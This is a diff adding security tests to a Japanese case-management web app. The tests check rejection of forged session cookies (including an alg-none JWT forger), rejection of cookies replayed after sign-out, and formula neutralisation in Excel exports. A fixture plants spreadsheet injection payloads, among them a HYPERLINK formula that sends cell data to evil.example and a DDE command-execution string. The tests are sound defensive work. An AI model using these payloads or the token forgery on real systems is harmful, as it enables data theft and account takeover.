@@ -285,3 +285,148 @@ def test_first_request_to_a_fresh_server_signs_in_then_opens_the_link(browser, l
                 assert "mode=projection" in page.url
     finally:
         context.close()
+
+
+# ---------------------------------------------------------------- sessions and exports (security issue)
+
+@pytest.fixture(scope="module")
+def guarded(tmp_path_factory):
+    """The sample town with an audit folder the test can read."""
+    from tests.conftest import SAMPLE
+    audit_dir = tmp_path_factory.mktemp("audit")
+    for url in serve(SAMPLE, TSUNAGU_AUDIT_DIR=str(audit_dir)):
+        yield url, audit_dir
+
+
+def forged(payload: dict, alg: str) -> str:
+    import base64
+    import json
+    import jwt
+    if alg == "none":
+        part = lambda d: base64.urlsafe_b64encode(json.dumps(d).encode()).decode().rstrip("=")   # noqa: E731
+        return f"{part({'alg': 'none', 'typ': 'JWT'})}.{part(payload)}."
+    return jwt.encode(payload, TEST_COOKIE_KEY, algorithm=alg)
+
+
+@pytest.mark.parametrize("case", ["alg-none", "hs512", "removed-user", "text-expiry"])
+def test_a_forged_or_stale_cookie_gives_the_sign_in_form(browser, guarded, case):
+    url, _ = guarded
+    later = time.time() + 3600
+    token = {"alg-none": lambda: forged({"username": "admin", "exp_date": later}, "none"),
+             "hs512": lambda: forged({"username": "admin", "exp_date": later}, "HS512"),
+             "removed-user": lambda: forged({"username": "someone-removed", "exp_date": later}, "HS256"),
+             "text-expiry": lambda: forged({"username": "admin", "exp_date": "2099-12-31"}, "HS256")}[case]()
+    context = browser.new_context(locale="ja-JP")
+    context.add_cookies([{"name": "tsunagu_board_auth", "value": token, "url": url}])
+    page = context.new_page()
+    try:
+        page.goto(url + "/case-board")
+        wait_ready(page)
+        page.get_by_label("ユーザー名").wait_for(timeout=30_000)
+        body = page.locator("body").inner_text()
+        assert "Traceback" not in body and "サインイン中:" not in body
+        assert page.locator('[data-testid="stException"]').count() == 0
+    finally:
+        context.close()
+
+
+def test_a_cookie_replayed_after_sign_out_gives_the_sign_in_form_and_reloads_log_one_sign_in(browser, guarded):
+    from lib.access import audit
+    url, audit_dir = guarded
+    context = browser.new_context(locale="ja-JP", viewport={"width": 1400, "height": 900})
+    page = context.new_page()
+    page.set_default_timeout(30_000)
+    try:
+        sign_in(page, url, "kyodo")
+        captured = next(c for c in context.cookies() if c["name"] == "tsunagu_board_auth")
+        for path in ("/case-board", "/shinchoku", "/top"):          # new page loads: the cookie signs in again
+            page.goto(url + path)
+            wait_ready(page)
+            page.get_by_text("サインイン中:").wait_for()
+        log = audit.read(audit_dir)
+        assert list(log[log["user"] == "kyodo"]["event"]).count("sign_in") == 1
+        page.get_by_role("button", name="サインアウト").click()
+        page.get_by_label("ユーザー名").wait_for()
+        thief = browser.new_context(locale="ja-JP")
+        thief.add_cookies([{k: captured[k] for k in ("name", "value", "domain", "path")}])
+        stolen = thief.new_page()
+        stolen.goto(url + "/case-board")
+        wait_ready(stolen)
+        stolen.get_by_label("ユーザー名").wait_for(timeout=30_000)
+        assert "サインイン中:" not in stolen.locator("body").inner_text()
+        thief.close()
+    finally:
+        context.close()
+
+
+def test_tables_offer_no_csv_download_of_their_own(page, guarded):
+    url, _ = guarded
+    sign_in(page, url, "kyodo")
+    page.goto(url + "/shinchoku")
+    wait_ready(page)
+    grid = page.locator('[data-testid="stDataFrame"]').first
+    grid.wait_for()
+    grid.hover()
+    page.wait_for_timeout(500)
+    toolbar = page.locator('[data-testid="stElementToolbar"]')
+    labels = [b.get_attribute("aria-label") or "" for b in toolbar.locator("button").all()]
+    assert labels, "the table toolbar did not show"
+    assert not [x for x in labels if "Download" in x or "ダウンロード" in x], labels
+
+
+@pytest.fixture(scope="module")
+def planted_formulas(tmp_path_factory):
+    """The sample town where staff typed formula-looking text (kept as text in the sheet)."""
+    from openpyxl import load_workbook
+    from tests.conftest import SAMPLE
+    folder = tmp_path_factory.mktemp("formulas")
+    book = load_workbook(SAMPLE)
+    payloads = ['=HYPERLINK("http://evil.example/?d="&B2,"詳細")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+81-90"]
+    for sheet, column in (("支援プラン", "目標"), ("支援プラン", "取組事項"), ("経過記録", "内容")):
+        header = [c.value for c in book[sheet][1]]
+        for i, row in enumerate(book[sheet].iter_rows(min_row=2, max_row=9)):
+            cell = row[header.index(column)]
+            cell.value = payloads[i % len(payloads)]
+            cell.data_type = "s"                  # typed as text (with a leading apostrophe in Excel)
+    header = [c.value for c in book["世帯"][1]]
+    book["世帯"].cell(row=3, column=header.index("緊急度") + 1, value="=1+1 とても高い").data_type = "s"  # for データ点検
+    path = folder / "town.xlsx"
+    book.save(path)
+    audit_dir = folder / "audit"
+    for url in serve(path, TSUNAGU_AUDIT_DIR=str(audit_dir), TSUNAGU_TODAY="2026-11-24"):
+        yield url, audit_dir
+
+
+def downloaded_cells(download) -> list:
+    import io
+    from openpyxl import load_workbook
+    book = load_workbook(io.BytesIO(open(download.path(), "rb").read()))
+    return [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+
+
+def test_every_download_is_neutralised_and_audited(page, planted_formulas):
+    """Click each download a person can reach; nothing comes out as a live formula, and each is audited."""
+    from lib.access import audit
+    url, audit_dir = planted_formulas
+    sign_in(page, url, "kyodo")
+    clicks = [("/shinchoku", "この一覧を Excel でダウンロード", None), ("/tenken", "Excel でダウンロード", None),
+              ("/kaigi", "Excel でダウンロード", "書類")]
+    seen_planted = 0
+    for path, label, view in clicks:
+        page.goto(url + path)
+        wait_ready(page)
+        if view:
+            page.get_by_text(view, exact=True).click()
+            wait_ready(page)
+        with page.expect_download() as info:
+            page.get_by_role("button", name=label).click()
+        cells = downloaded_cells(info.value)
+        assert cells, path
+        live = [v for v, kind in cells if kind == "f" or (isinstance(v, str) and v.startswith(("=", "+", "-", "@")))]
+        assert live == [], (path, live[:3])
+        seen_planted += sum(1 for v, _ in cells if isinstance(v, str) and v.startswith(("'=", "'@", "'+")))
+        wait_ready(page)
+    assert seen_planted > 0                              # the planted text did come out, as text
+    log = audit.read(audit_dir)
+    downloads = log[(log["event"] == "download") & (log["user"] == "kyodo")]
+    assert len(downloads) == len(clicks)
